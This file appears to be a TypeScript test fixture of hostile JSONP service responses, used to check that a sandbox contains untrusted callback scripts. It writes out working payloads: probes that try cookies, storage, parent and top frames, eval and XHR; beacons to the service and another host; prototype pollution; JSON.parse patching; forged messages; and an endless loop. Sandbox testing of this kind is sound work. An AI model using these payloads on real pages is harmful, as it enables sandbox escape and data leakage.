// Responses of a hostile version 1 service. `{callback}` is the name of the callback in the page's request.
import type { SourceErrorKind } from '../../src/sources/source-error.ts';

/**
 * Tries all ways to leave the sandbox, and returns the names of those that worked. It is a string because it runs in
 * the sandbox, where none may work, and in the page itself, where many do.
 */
export const reachFurther = `(() => {
  const ways = {
    parent: () => parent.document.title, top: () => top.document.title, topOrigin: () => location.ancestorOrigins[0], \
opener: () => opener.document,
    document: () => document.body, baseURI: () => document.baseURI, referrer: () => document.referrer, cookie: () => \
document.cookie,
    history: () => history.length, back: () => history.length > 99 && history.back(), frames: () => frames.length, \
name: () => window.name,
    localStorage: () => localStorage, sessionStorage: () => sessionStorage, indexedDB: () => \
indexedDB.open('reached'), caches: () => isSecureContext && caches.open,
    open: () => open.name, alert: () => alert.name, print: () => print.name, clipboard: () => \
navigator.clipboard.writeText,
    address: () => /^http/.test(location.href), origin: () => origin !== 'null',
    code: () => eval('1'), newFunction: () => new Function('return 1')(),
    xhr: () => { const x = new XMLHttpRequest(); x.open('GET', WHERE + '/reached-by-xhr', false); x.send(); return \
true; },
    worker: () => new Worker(URL.createObjectURL(new Blob(['']))),
    script: () => { importScripts(ELSEWHERE + '/reached-by-script'); return true; },
  };
  const reached = [];
  for (const name of Object.keys(ways)) {
    try { if (ways[name]() || name === 'cookie') reached.push(name); } catch (error) {}
  }
  return reached.join(' ');
})()`;

/** Sends data in all ways that end asynchronously. */
const sendAway = `
  for (const send of [
    () => fetch(WHERE + '/reached-by-fetch', { mode: 'no-cors', keepalive: true }), () => navigator.sendBeacon(WHERE + \
'/reached-by-beacon'), () => new WebSocket(WHERE.replace('http', 'ws') + '/reached-by-socket'),
    () => fetch(ELSEWHERE + '/reached-by-fetch', { mode: 'no-cors' }), () => new EventSource(WHERE + \
'/reached-by-events'), () => { new Image().src = WHERE + '/reached-by-image'; },
    () => new BroadcastChannel('drystone').postMessage('reached'),
  ]) { try { const sent = send(); if (sent && sent.catch) sent.catch(() => {}); } catch (error) {} }`;

export interface HostileResponse {
  readonly body: string;
  readonly contentType?: string;
  /** The error that the board must report. */
  readonly kind: SourceErrorKind;
}

/** Responses by the name of the board that receives them. `WHERE` is the service itself, `ELSEWHERE` another host. */
export const hostileResponses: Readonly<Record<string, HostileResponse>> = {
  'reaches-out': {
    body: `{callback}({ error: 'reached: ' + (${reachFurther} || 'nothing') + '.', status: 400 })`,
    kind: 'rejected',
  },
  'sends-away': {
    body:
      `${sendAway} const end = Date.now() + 400; while (Date.now() < end); {callback}({ error: 'sent', ` +
      'status: 400 })',
    kind: 'rejected',
  },
  patches: {
    body: `for (const thing of [Object, Array, Promise, Function, String]) { thing.prototype.patched = true; } \
globalThis.patched = true; Array.prototype.push = JSON.parse = () => { throw 'patched'; };
      Object.prototype.toJSON = () => ({ error: 'patched', status: 400 }); {callback}({ data: [] })`,
    kind: 'rejected',
  },
  'answers-twice': {
    body:
      `{callback}({ error: 'first', status: 404 }); {callback}({ data: [] }); ` +
      `postMessage('{"data":[]}'); throw new Error('and then some')`,
    kind: 'not-found',
  },
  forges: { body: `postMessage('ready'); postMessage('{"data":[]}'); {callback}({ data: [] })`, kind: 'malformed' },
  'forges-objects': { body: `postMessage({ data: [] }); {callback}({ data: [] })`, kind: 'malformed' },
  'another-callback': { body: `someOtherCallback({ data: [] })`, kind: 'blocked' },
  'never-calls': { body: `var response = { data: [] };`, kind: 'malformed' },
  functions: { body: `{callback}(() => ({ data: [] }))`, kind: 'malformed' },
  circles: { body: `const circle = { data: [] }; circle.circle = circle; {callback}(circle)`, kind: 'malformed' },
  throws: { body: `throw new Error('thrown')`, kind: 'blocked' },
  markup: { body: `<!doctype html><title>Please log in</title>`, contentType: 'text/html', kind: 'blocked' },
  'fifty-megabytes': { body: `{callback}({ data: 'x'.repeat(50e6) })`, kind: 'malformed' },
  pollutes: {
    body: `{callback}(JSON.parse('{"__proto__":{"patched":true},"constructor":{"prototype":{"patched":true}}\
,"error":"sorry","status":400}'))`,
    kind: 'rejected',
  },
};

/** A script that runs until it is terminated. */
export const endlessResponse = 'while (true) {}';
